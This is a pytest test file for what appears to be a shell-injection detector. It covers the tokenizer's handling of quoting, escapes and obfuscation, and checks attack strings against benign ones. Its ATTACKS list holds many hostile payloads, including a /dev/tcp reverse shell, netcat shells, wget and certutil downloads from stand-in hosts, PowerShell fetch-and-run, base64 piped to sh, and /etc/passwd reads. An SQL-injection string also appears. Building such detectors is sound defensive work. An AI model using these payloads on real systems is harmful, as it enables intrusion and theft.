"""Shell tokenizer and is_shi: lexing rules, obfuscation normalisation, attacks vs benign."""

from __future__ import annotations

import os
import subprocess
import sys
import time

import pytest

from bastion.detect.shell import is_shi, normalize_word, plain, tokenize


def words(value: str) -> list[str]:
    return [plain(t.text) for t in tokenize(value) if t.kind == "word"]


def kinds(value: str) -> list[str]:
    return [t.kind for t in tokenize(value)]


# ---------------------------------------------------------------- tokenizer


def test_quotes_are_removed_and_joined() -> None:
    assert words("c''at /etc/pa'ss'wd") == ["cat", "/etc/passwd"]
    assert words('c"a"t') == ["cat"]
    assert words("'a b' c") == ["a b", "c"]


def test_backslash_and_caret_escapes() -> None:
    assert words("c\\at") == ["cat"]
    assert words("p^o^w^e^r^s^h^e^l^l") == ["powershell"]
    assert words("a\\ b") == ["a b"]


def test_empty_expansions_and_ifs() -> None:
    assert words("c$@at") == ["cat"]
    assert words("cat$u /etc$u/passwd") == ["cat", "/etc/passwd"]
    assert words("cat${IFS}/etc/passwd") == ["cat", "/etc/passwd"]
    assert words("pi$()ng") == ["ping"]
    assert words("pi``ng") == ["ping"]


def test_obfuscation_is_flagged_on_the_word() -> None:
    (tok,) = [t for t in tokenize("c''at") if t.kind == "word"]
    assert tok.obfuscated
    (tok,) = [t for t in tokenize("cat") if t.kind == "word"]
    assert not tok.obfuscated


def test_variables_assigned_earlier_are_substituted() -> None:
    assert words("a=nc;$a -e sh")[1:] == ["nc", "-e", "sh"]


def test_separators_and_redirections() -> None:
    assert kinds("a;b|c||d&&e&f\ng") == [
        "word", "sep", "word", "sep", "word", "sep", "word", "sep", "word", "sep", "word",
        "sep", "word",
    ]
    assert "redir" in kinds("cat < /etc/passwd")
    assert "redir" in kinds("sh -i >& /dev/tcp/1.2.3.4/5")


def test_ansi_c_quoting() -> None:
    assert words("$'\\x77hoami'") == ["whoami"]


def test_globs_keep_their_meaning_only_unquoted() -> None:
    (tok,) = [t for t in tokenize("/???/c?t") if t.kind == "word"]
    assert tok.glob
    (tok,) = [t for t in tokenize("'/???/c?t'") if t.kind == "word"]
    assert not tok.glob


def test_markup_angle_brackets_are_not_redirections() -> None:
    assert "redir" not in kinds("<order><id>1</id></order>")


def test_normalize_word() -> None:
    assert normalize_word("/usr/bin/PERL") == "perl"
    assert normalize_word("C:\\Windows\\System32\\cmd.exe") == "cmd"


# ---------------------------------------------------------------- detection

ATTACKS = [
    ";cat /etc/passwd",
    "127.0.0.1; whoami",
    "x | nc 10.0.0.1 4444 -e /bin/sh",
    "`id`",
    "$(whoami)",
    "a && wget http://evil.example/x.sh",
    "www.example.com;/bin/ca? /et*/passwd",
    "www.example.com;c$@at /et$@c/pas$@swd",
    "www.example.com;c\\at /etc/passwd",
    "ti''me sh -c whoami",
    'py""thon -c "import os"',
    "cat${IFS}/etc/passwd",
    "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
    "garb=adduse[r];$garb pizza",
    "{,ifconfig}",
    "{l,-lh}s",
    "/usr/bin/[u]name -a",
    "cat /[?]tc/pa[?]swd",
    "/bin/bash -c 'sh -i >& /dev/tcp/10.0.0.1/9001 0>&1'",
    "';htop'",
    "\";id;\"",
    "foo\nid",
    ";iex (iwr http://10.0.10.10/x.ps1)",
    "Invoke-WebRequest http://example.com/file.ps1",
    "cmd=:;certutil -urlcache -f http://evil.example/a.exe",
    "time ifconfig",
    "nohup whoami",
    "visudo",
    "una$$me -a",
    "ping`` 127.0.0.1",
    "$[2+2]",
    "alias a=curl&a example.com",
    "echo | gcc7.4",
    "printf dW5hbWUgLWE=|base64 -d|sh",
    "c'at /etc/passwd",
    "if (whoami) then",
    "nc 10.0.0.1 4444",
    "x=(string) {[system][0]} ('uname');",
]

BENIGN = [
    "hello world",
    "I have a cat; she likes ping pong",
    "cat & dog",
    "rock|paper|scissors",
    "Terms & Conditions; Privacy",
    "en-US,en;q=0.9",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "rm -rf is dangerous",
    "ping pong tables",
    "time is of the essence",
    "find x for y",
    "head of marketing",
    "a hero; more than",
    "hello; time he came",
    "ls",
    "id",
    "LS",
    "test123",
    "Some text (in brackets).",
    "page[1]",
    "data[index]",
    "${price}",
    "C:\\Users\\me\\Documents",
    "report_final(1).pdf",
    "Find your solution here -> link",
    "<?xml version=\"1.0\"?><order><id>12345</id></order>",
    "$(document).ready(function () { $('#x').hide(); });",
    "Use `ls -la` to list files, then `cat file.txt` to read one.",
    "Je pense, donc je suis; tu es là & moi aussi.",
    "北京是中国的首都；上海是最大的城市。",
    "Москва — столица России; население ~13 млн.",
    "R&D; Q&A; AT&T",
    "How do I use cat in linux?",
    "sort -price",
    "*/*",
    ";\"The quick brown fox jumped over the lazy dog\"",
    "char (fish)",
    "Paris (France)",
    "test'",
    'test"',
    "python3.11",
    "node 18.2",
    "/bookstore/book[1]/title",
    "rm -rf 命令会删除整个目录吗？",
    "rm -rf コマンドは危険ですか？",
    "rm -rf удаляет всю папку",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_detected(value: str) -> None:
    assert is_shi(value), value


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_pass(value: str) -> None:
    assert is_shi(value) is None, (value, is_shi(value))


def test_evidence_names_the_command() -> None:
    evidence = is_shi("1.2.3.4; whoami")
    assert evidence is not None and "whoami" in evidence


def test_hostile_input_is_bounded() -> None:
    for value in ("$(" * 5000, "`" * 10001, "'" * 9999, "{" * 5000 + "," * 5000, "\\" * 10000,
                  "a;" * 20000, "${" * 3000, "$((" * 3000, "[" * 5000 + "/"):
        started = time.perf_counter()
        is_shi(value)
        assert time.perf_counter() - started < 1.0


def test_the_evidence_of_a_glob_is_the_same_in_every_process() -> None:
    # A glob can match several command names; the one named must not depend on the
    # process's string hashing (PYTHONHASHSEED), or the same request reads differently.
    value = "63'or (1,1)=(select count(0),concat(version(),floor(rand(0)*2))from t group by 2)--"
    program = f"from bastion.detect.shell import is_shi; print(is_shi({value!r}))"
    said = {
        subprocess.run([sys.executable, "-c", program], check=True, capture_output=True,
                       text=True, env={**os.environ, "PYTHONHASHSEED": str(seed)}).stdout
        for seed in range(6)
    }
    assert len(said) == 1 and "globbed command" in said.pop()
